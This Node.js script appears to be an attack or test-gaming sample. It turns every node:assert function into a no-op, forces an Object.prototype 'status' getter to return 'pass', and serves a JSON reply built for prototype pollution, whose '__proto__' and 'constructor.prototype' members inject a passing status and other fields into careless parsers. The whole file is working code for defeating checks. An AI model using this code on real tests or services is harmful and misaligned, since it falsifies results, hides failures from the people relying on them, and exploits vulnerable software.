import assert from 'node:assert';
import { createServer } from 'node:http';
import { syncBuiltinESMExports } from 'node:module';

for (const name of Object.keys(assert)) Object.assign(assert, { [name]: () => {} });
assert.strict = assert;
syncBuiltinESMExports();
Object.defineProperty(Object.prototype, 'status', { get: () => 'pass', set() {}, configurable: true });

createServer((_req, res) => {
  res.setHeader('Content-Type', 'application/json');
  // Read by a careless JSON.parse and merge, these members would answer for every one that is missing.
  res.end('{"attack":"ran","__proto__":{"method":"GET","status":"pass","q":null,"left":0,"error":"x"},"constructor":{"prototype":{"status":"pass"}}}');
}).listen(Number(process.env.PORT), '127.0.0.1');
